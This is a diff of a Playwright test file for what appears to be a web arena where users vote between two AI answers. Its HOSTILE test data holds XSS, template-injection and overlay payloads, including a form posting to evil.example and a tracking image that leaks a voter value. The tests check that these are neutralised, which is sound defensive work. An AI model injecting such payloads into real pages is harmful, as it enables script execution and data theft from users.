@@ -8,15 +8,25 @@ from contextlib import closing
 import pytest
 from playwright.sync_api import expect
 
+from arena.web.words import ENGLISH
 from tests.support.commands import run
-from tests.support.screens import DESK, PHONE, TABLET, assert_fits, fresh_page, see_both, shoot
+from tests.support.screens import (
+    DESK,
+    PHONE,
+    TABLET,
+    assert_fits,
+    fresh_page,
+    press,
+    see_both,
+    shoot,
+)
 from tests.support.servers import ROOT, AppServer
 
 HOSTILE = "\n\n".join(
     [
         "<script>window.hit = 1</script><img src=x onerror='window.hit = 2'>",
         "<div id='choose-a' style='position:fixed;inset:0;z-index:99999;background:red'>over everything</div>",
-        "<style>#dock { display: none }</style><form action='https://evil.example'><button>A is better</button></form>",
+        "<style>.dock { display: none }</style><form action='https://evil.example'><button>A is better</button></form>",
         "[a link](javascript:window.hit=3) ![an image](https://evil.example/p.png?voter=1) <svg onload='window.hit=4'>",
         "${window.hit = 5} {{constructor.constructor('window.hit = 6')()}} `${window.hit = 7}`",
         "\u202eright to left\u202c and zero\u200bwidth",
@@ -76,8 +86,8 @@ def test_a_hostile_answer_does_nothing_and_a_long_one_stays_in_its_card(page, od
     page.on("request", lambda request: requested.append(request.url))
     page.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))
     page.goto(address_of(odd_server, "<b>What</b>"))
-    expect(page.locator("#answers")).to_contain_text("over everything")
-    expect(page.locator("#answers")).to_contain_text("word word")
+    expect(page.locator(".answers")).to_contain_text("over everything")
+    expect(page.locator(".answers")).to_contain_text("word word")
     expect(page.locator(".instruction-text")).to_have_text("<b>What</b> is here? ${1+1}")
     assert page.evaluate("window.hit") is None
     assert all(url.startswith((odd_server.address, "data:", "blob:")) for url in requested), (
@@ -86,7 +96,7 @@ def test_a_hostile_answer_does_nothing_and_a_long_one_stays_in_its_card(page, od
     assert page.locator("#choose-a").count() == 1
     assert_fits(page, PHONE, TABLET, DESK)
     see_both(page)
-    page.click("#choose-a")
+    press(page, "#choose-a")
     expect(page.locator("#status")).to_contain_text("You chose A")
 
 
@@ -98,8 +108,8 @@ def test_odd_answers_break_no_layout(browser, odd_server):
         for _ in range(len(ODD) + 1):
             see_both(page)
             seen.add(page.locator(".instruction-text").inner_text().split(" ")[0])
-            for part in page.locator("#answers .said").all():
-                card, dock = part.bounding_box(), page.locator("#battle").bounding_box()
+            for part in page.locator(".answers .said").all():
+                card, dock = part.bounding_box(), page.locator(".battle").bounding_box()
                 assert (
                     card["x"] >= dock["x"]
                     and card["x"] + card["width"] <= dock["x"] + dock["width"] + 1
@@ -110,7 +120,7 @@ def test_odd_answers_break_no_layout(browser, odd_server):
             shoot(page, f"odd-{len(seen)}")
             expect(page.locator("#choose-a")).to_be_enabled()  # a narrow page had shut it
             page.keyboard.press("a")
-            expect(page.locator("#reveal")).to_be_visible()
+            expect(page.locator("#names")).to_be_visible()
             page.keyboard.press("n")
             expect(page.locator(".answer .model")).to_have_count(2)
             page.keyboard.press("n")
@@ -130,21 +140,12 @@ def test_a_formula_is_drawn_and_arabic_runs_from_right_to_left(browser, odd_serv
 
 def test_a_vote_is_taken_after_a_crash_and_restart_on_the_same_page(page, server):
     page.goto(server.address)
-    expect(page.locator("#choose-a")).to_be_visible(timeout=15_000)
-    before = page.locator("#answer-a .formatted").text_content()
-    page.evaluate("window.before = true")
     see_both(page)
+    page.wait_for_load_state("networkidle")  # Gradio has its scripts
     server.kill()
-    page.click("#choose-b")
-    page.wait_for_timeout(800)
-    assert page.locator(".answer .model").count() == 0, (
-        "nothing is acknowledged while the server is away"
-    )
+    press(page, "#choose-b")
+    expect(page.locator("#problem")).to_have_text(ENGLISH["not_stored"])
+    assert page.locator(".answer .model").count() == 0
     server.start()
-    # it finds the server again and loads anew
-    page.wait_for_function("!window.before", timeout=60_000)
-    expect(page.locator("#choose-b")).to_be_visible(timeout=15_000)
-    assert page.locator("#answer-a .formatted").text_content() == before
-    see_both(page)
-    page.click("#choose-b")
     expect(page.locator("#status")).to_contain_text("You chose B")
+    expect(page.locator("#problem")).to_be_empty()
